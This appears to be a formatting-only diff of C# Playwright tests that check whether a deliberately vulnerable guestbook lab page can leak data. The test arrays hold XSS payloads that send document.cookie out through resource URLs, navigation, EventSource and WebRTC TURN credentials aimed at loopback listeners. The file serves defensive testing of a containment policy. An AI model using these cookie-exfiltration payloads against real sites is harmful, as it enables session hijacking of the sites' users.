@@ -9,7 +9,8 @@ using Microsoft.Playwright;
 
 namespace BlazorJwt.Tests.Browser;
 
-/// <summary>What holds the labs in that stand on the other host. What they show a visitor, on both loopback names, is in KeepSafeKeyboardTests.</summary>
+/// <summary>What holds the labs in that stand on the other host. What they show a visitor, on both loopback names, is in
+/// KeepSafeKeyboardTests.</summary>
 public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTest(app, browser)
 {
     private static readonly string[] WaysOut =
@@ -22,7 +23,8 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
         "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '/app.css?' + document.cookie }))",
         "document.head.append(Object.assign(document.createElement('script'), { src: '/app.js?' + document.cookie }))",
         "document.body.append(Object.assign(document.createElement('iframe'), { src: '/?' + document.cookie }))",
-        "const form = Object.assign(document.createElement('form'), { action: '/', method: 'post' }); document.body.append(form); form.submit()",
+        "const form = Object.assign(document.createElement('form'), { action: '/', method: 'post' }); document.body.append(form); " +
+            "form.submit()",
         "window.open('/?' + document.cookie)",
         "location.href = '/?' + document.cookie",
         "new EventSource('/?' + document.cookie)",
@@ -41,7 +43,8 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
         });
         foreach (var script in WaysOut)
         {
-            await WriteAsync(session, $"<script>loot.textContent = document.cookie; setTimeout(() => {{ document.body.dataset.done = 'yes' }}, 300); {script}</script>");
+            await WriteAsync(session, $"<script>loot.textContent = document.cookie; setTimeout(() => {{ document.body.dataset.done = " +
+                $"'yes' }}, 300); {script}</script>");
             // Asked of the page, not of its events: nothing of it is on its way any more.
             await session.Page.WaitForFunctionAsync("() => document.readyState === 'complete'");
             requests.Clear();
@@ -52,7 +55,8 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
             await Assertions.Expect(hole.Locator("#loot")).ToContainTextAsync("eyJ");
             // The page's own address, and the note that the page beside brings to the server.
             var sent = requests.Select(url => new Uri(url).PathAndQuery).ToArray();
-            Assert.True(sent.Count(path => path == "/labs/guestbook/hole") == 1 && sent.All(path => path is "/labs/guestbook/hole" or "/labs/guestbook/outcome"), $"{script}: {string.Join(' ', sent)}");
+            Assert.True(sent.Count(path => path == "/labs/guestbook/hole") == 1
+                && sent.All(path => path is "/labs/guestbook/hole" or "/labs/guestbook/outcome"), $"{script}: {string.Join(' ', sent)}");
             Assert.True(session.Context.Pages.Count == 2, script);
             await hole.CloseAsync();
         }
@@ -61,7 +65,8 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
     [Fact]
     public async Task Nothing_gets_out_of_the_page_with_the_hole_by_ways_that_no_policy_stops()
     {
-        // WebRTC sends nothing on a machine without a network, so what is asked is whether a script has it: its own, and that of an empty frame, which lives as long as its frame.
+        // WebRTC sends nothing on a machine without a network, so what is asked is whether a script has it: its own, and that of an empty
+        // frame, which lives as long as its frame.
         const string script = """
             const f = document.createElement('iframe'); document.body.append(f);
             const s = document.createElement('script'); s.type = 'speculationrules';
@@ -90,15 +95,22 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
     [
         "<iframe src=http://127.0.0.1:TCP/></iframe>",
         "<script>document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.1:TCP/' }))</script>",
-        "<script>const h = document.createElement('div'), f = document.createElement('iframe'); document.body.append(h); h.attachShadow({ mode: 'closed' }).append(f); go(f.contentWindow)</script>",
-        "<script>const h = document.createElement('div'), f = document.createElement('iframe'); document.body.append(h); h.attachShadow({ mode: 'closed' }).append(f); f.src = 'http://127.0.0.1:TCP/'</script>",
+        "<script>const h = document.createElement('div'), f = document.createElement('iframe'); document.body.append(h); " +
+            "h.attachShadow({ mode: 'closed' }).append(f); go(f.contentWindow)</script>",
+        "<script>const h = document.createElement('div'), f = document.createElement('iframe'); document.body.append(h); " +
+            "h.attachShadow({ mode: 'closed' }).append(f); f.src = 'http://127.0.0.1:TCP/'</script>",
         "<div><template shadowrootmode=closed><iframe onload=go(this.contentWindow)></iframe></template></div>",
         "<div><template shadowrootmode=closed><iframe src=http://127.0.0.1:TCP/></iframe></template></div>",
-        "<div id=h></div><script>h.setHTMLUnsafe('<p><template shadowrootmode=closed><iframe onload=go(this.contentWindow)></iframe></template></p>')</script>",
-        "<script>document.body.append(Document.parseHTMLUnsafe('<p><template shadow' + 'rootmode=closed><iframe onload=go(this.contentWindow)></iframe></template></p>').querySelector('p'))</script>",
-        "<script>document.write('<p><template shadow' + 'rootmode=closed><iframe onload=go(this.contentWindow)></iframe></template></p>')</script>",
-        "<script>const o = Object.assign(document.createElement('object'), { type: 'text/html', data: 'about:blank' }); document.body.append(o); setTimeout(() => go(o.contentWindow), 200)</script>",
-        "<script>document.body.append(Object.assign(document.createElement('embed'), { type: 'text/html', src: 'about:blank' })); setTimeout(() => go(window[0]), 200)</script>",
+        "<div id=h></div><script>h.setHTMLUnsafe('<p><template shadowrootmode=closed><iframe " +
+            "onload=go(this.contentWindow)></iframe></template></p>')</script>",
+        "<script>document.body.append(Document.parseHTMLUnsafe('<p><template shadow' + 'rootmode=closed><iframe " +
+            "onload=go(this.contentWindow)></iframe></template></p>').querySelector('p'))</script>",
+        "<script>document.write('<p><template shadow' + 'rootmode=closed><iframe " +
+            "onload=go(this.contentWindow)></iframe></template></p>')</script>",
+        "<script>const o = Object.assign(document.createElement('object'), { type: 'text/html', data: 'about:blank' }); " +
+            "document.body.append(o); setTimeout(() => go(o.contentWindow), 200)</script>",
+        "<script>document.body.append(Object.assign(document.createElement('embed'), { type: 'text/html', src: 'about:blank' })); " +
+            "setTimeout(() => go(window[0]), 200)</script>",
     ];
 
     [Fact]
@@ -107,13 +119,17 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
         using var tcp = new TcpListener(IPAddress.Loopback, 0);
         tcp.Start();
         using var udp = new UdpClient(new IPEndPoint(IPAddress.Loopback, 0));
-        string Aimed(string text) => text.Replace(":TCP", $":{((IPEndPoint)tcp.LocalEndpoint).Port}", StringComparison.Ordinal).Replace(":UDP", $":{((IPEndPoint)udp.Client.LocalEndPoint!).Port}", StringComparison.Ordinal);
-        var go = Aimed("function go(w) { const c = new w.RTCPeerConnection({ iceServers: [{ urls: ['turn:127.0.0.1:UDP', 'turn:127.0.0.1:TCP?transport=tcp'], username: document.cookie.slice(0, 300), credential: 'x' }] }); c.createDataChannel('a'); c.setLocalDescription() }");
+        string Aimed(string text) => text.Replace(":TCP", $":{((IPEndPoint)tcp.LocalEndpoint).Port}", StringComparison.Ordinal)
+            .Replace(":UDP", $":{((IPEndPoint)udp.Client.LocalEndPoint!).Port}", StringComparison.Ordinal);
+        var go = Aimed("function go(w) { const c = new w.RTCPeerConnection({ iceServers: [{ urls: ['turn:127.0.0.1:UDP', " +
+            "'turn:127.0.0.1:TCP?transport=tcp'], username: document.cookie.slice(0, 300), credential: 'x' }] }); " +
+                "c.createDataChannel('a'); c.setLocalDescription() }");
         var session = await OpenAsync();
         await OpenBookAsync(session, "localhost");
         foreach (var way in WaysOutByFrames)
         {
-            await WriteAsync(session, $"<script>loot.textContent = document.cookie; {go} setTimeout(() => {{ document.body.dataset.done = 'yes' }}, 1000)</script>{Aimed(way)}");
+            await WriteAsync(session, $"<script>loot.textContent = document.cookie; {go} setTimeout(() => {{ document.body.dataset.done " +
+                $"= 'yes' }}, 1000)</script>{Aimed(way)}");
 
             var hole = await OpenTabAsync(session, "Open the page with the hole");
 
@@ -170,7 +186,8 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
 
     private async Task<IReadOnlyList<LabResult>> ResultsAsync(PageSession session, string name)
     {
-        var visitor = (await session.Context.CookiesAsync([At(name, "/")])).Single(cookie => cookie.Name == "__Host-BlazorJwt-Visitor").Value;
+        var visitor = (await session.Context.CookiesAsync([At(name, "/")])).Single(
+            cookie => cookie.Name == "__Host-BlazorJwt-Visitor").Value;
         return App.Services.GetRequiredService<LabResults>().For(ClaimsPrincipalExtensions.SessionOf(App.VisitorIdIn(visitor))!);
     }
 }
